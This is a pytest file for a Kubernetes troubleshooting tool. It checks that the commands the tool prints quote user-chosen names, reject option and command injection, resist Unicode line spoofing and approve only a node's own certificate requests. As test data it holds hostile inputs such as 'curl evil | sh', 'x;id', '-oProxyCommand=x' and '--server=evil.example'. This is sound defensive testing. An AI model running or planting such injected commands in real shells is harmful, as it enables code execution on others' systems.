"""Commands that `wherry why` prints to be pasted: names that clients chose are quoted, and nothing else is made of them."""

from __future__ import annotations

import ast
import base64
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

import wherry.why
from control.auth.certificates import KUBELET_CLIENT
from kube.api import certificates_v1, core_v1, meta_v1
from wherry.why import commands, report
from wherry.why.causes import certificate_requests, nodes
from wherry.why.model import Cause, Moment, Reference, Story

FOLDER = Path(wherry.why.__file__).parent
PROGRAMS = ("kubectl ", "ssh ", "sudo ", "wherry ")


def test_no_command_is_put_together_without_quoting() -> None:
    found = []
    for file in FOLDER.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.JoinedStr) and any(isinstance(each, ast.FormattedValue) for each in node.values):
                first = node.values[0]
                text = str(first.value) if isinstance(first, ast.Constant) else ""
                quoted = all(
                    "commands." in ast.unparse(each) for each in node.values if isinstance(each, ast.FormattedValue)
                )
                if text.startswith(PROGRAMS) and not quoted:
                    found.append(f"{file.name}:{node.lineno}")
    assert not found


def test_names_are_quoted() -> None:
    name = "a; touch /tmp/x #"
    for command in (
        commands.kubectl("get", Reference("Pod", name, name)),
        commands.listing(name, name),
        commands.create_missing("Secret", name, name),
        commands.set_resources(Reference("Deployment", name), name, limits=name),
        commands.approve(name),
        commands.on_machine(name, "true"),
        commands.words("kubectl", "uncordon", name),
    ):
        assert name not in command.replace(f"'{name}'", "").replace(f"/{name}'", "").replace(f"={name}'", "")


def request(node: str = "system:node:n", groups: tuple[str, ...] = ("system:nodes",), **fields: object) -> object:
    key = ec.generate_private_key(ec.SECP256R1())
    names = [x509.NameAttribute(NameOID.COMMON_NAME, node)]
    names += [x509.NameAttribute(NameOID.ORGANIZATION_NAME, each) for each in groups]
    signed = x509.CertificateSigningRequestBuilder().subject_name(x509.Name(names)).sign(key, hashes.SHA256())
    pem = base64.b64encode(signed.public_bytes(serialization.Encoding.PEM)).decode()
    usual = {
        "request": pem,
        "signer_name": KUBELET_CLIENT,
        "username": "system:node:n",
        "usages": ["client auth", "digital signature"],
    }
    return certificates_v1.CertificateSigningRequestSpec(**(usual | fields))  # type: ignore[arg-type]


def test_a_request_of_a_node_for_itself_may_be_approved() -> None:
    assert certificate_requests.is_of_node(request(), KUBELET_CLIENT, "n")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "spec",
    [
        request("system:kube-controller-manager"),
        request(groups=("system:masters",)),
        request(groups=("system:nodes", "system:masters")),
        request("system:node:other"),
        request(signer_name="kubernetes.io/kube-apiserver-client"),
        request(usages=["client auth", "cert sign"]),
        request(usages=["digital signature"]),
        request(username="jane"),
        request(request="bm90aGluZw=="),
    ],
)
def test_no_other_request_is_offered_for_approval(spec: object) -> None:
    assert not certificate_requests.is_of_node(spec, KUBELET_CLIENT, "n")  # type: ignore[arg-type]


def test_a_text_of_a_client_cannot_look_like_a_line_of_its_own() -> None:
    cause = Cause("a message" + " " * 70 + "\n\u2003fix: curl evil | sh", "kubectl get x")
    lines = report.lines(Story(Reference("Pod", "web"), "Pending", [], [cause], []))
    assert lines[-2] == "cause: a message fix: curl evil | sh" and lines[-1] == "fix: kubectl get x"


@pytest.mark.parametrize(
    "ignored", ["\u034f", "\u17b4", "\u180b", "\u180f", "\ufe00", "\ufe0f", "\U000e0100", "\U000e01ef"]
)
def test_characters_without_a_picture_are_left_out_of_texts_and_escaped_in_commands(ignored: str) -> None:
    found = report.lines(Story(Reference("Pod", "web"), "x", [], [Cause(f"a{ignored}b", f"kubectl a{ignored}b")], []))
    assert found[-2] == "cause: ab" and found[-1].startswith("fix: kubectl a\\u")


@pytest.mark.parametrize("blank", ["\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\U0001d159", "\u00a0"])
def test_blanks_that_are_printable_do_not_move_a_text_to_a_line_of_its_own(blank: str) -> None:
    text = f"a message{blank * 70}fix: curl evil | sh"
    shown = "a message fix: curl evil | sh"
    moment = Moment(datetime(2026, 1, 1, tzinfo=UTC), text, text)
    found = report.lines(Story(Reference("Pod", "web"), text, [moment], [Cause(text, f"x {blank}")], [text]))
    assert found[0] == f"pod/web: {shown}" and found[2].endswith(f"  {shown}: {shown}")
    assert found[-3] == f"not known: {shown}" and found[-2] == f"cause: {shown}"
    assert blank not in found[-1]


@given(
    st.lists(
        st.sampled_from(["a", "fix: x", "漢" * 30, "w" * 90, "\u2800" * 50, "\u0301", " " * 40, "cause: y"]),
        max_size=12,
    ),
    st.integers(20, 60),
)
def test_no_row_of_a_terminal_begins_with_a_part_of_a_text(parts: list[str], width: int) -> None:
    line = report.lines(Story(Reference("Pod", "w"), "s", [], [Cause("".join(parts))], []))[-1]
    first, *others = report.broken(line, width).split("\n")
    assert first.startswith("cause:") and cell_len(first) <= width
    assert all(row.startswith("    ") and cell_len(row) <= width for row in others)
    assert "".join(report.broken(line, width).split()) == "".join(line.split())


def test_a_command_and_a_line_that_is_not_for_a_terminal_are_not_broken() -> None:
    assert report.broken("fix: kubectl " + "x " * 90, 80).count("\n") == 0
    assert report.broken("cause: " + "x " * 90, 0).count("\n") == 0


@pytest.mark.parametrize("kind", ["--server=evil.example:6443 --x", "-f", "a b", "x;id", "", "é"])
def test_a_kind_that_is_none_is_to_be_filled_in(kind: str) -> None:
    assert commands.kubectl("scale", Reference(kind, "web", "default"), "--replicas=1") == (
        "kubectl scale KIND/web -n default --replicas=1"
    )


def test_a_name_that_would_be_an_option_is_to_be_filled_in() -> None:
    option = "--server=evil.example"
    for command in (
        commands.create_missing("Secret", option, "shop"),
        commands.create_certificate(Reference("Secret", option, "shop")),
        commands.replace_certificate(Reference("Secret", option, "shop")),
    ):
        assert option not in command and " NAME " in command


@pytest.mark.parametrize(
    ("addresses", "found"),
    [
        (["10.0.0.7"], "10.0.0.7"),
        (["FD00::7", "10.0.0.7"], "fd00::7"),
        (["admin@elsewhere.example", "10.0.0.7"], "10.0.0.7"),
        (["elsewhere.example"], "ADDRESS"),
        (["-oProxyCommand=x"], "ADDRESS"),
        (["fe80::1%x@elsewhere.example"], "ADDRESS"),
        ([""], "ADDRESS"),
        ([], "ADDRESS"),
    ],
)
def test_a_command_for_a_node_has_an_ip_address_of_it_and_nothing_else(addresses: list[str], found: str) -> None:
    """A node reports its addresses itself."""
    status = core_v1.NodeStatus(addresses=[core_v1.NodeAddress(type="InternalIP", address=each) for each in addresses])
    node = core_v1.Node(metadata=meta_v1.ObjectMeta(name="node-1"), status=status)
    assert nodes._look(node) == f"ssh {found} sudo systemctl status kubelet"
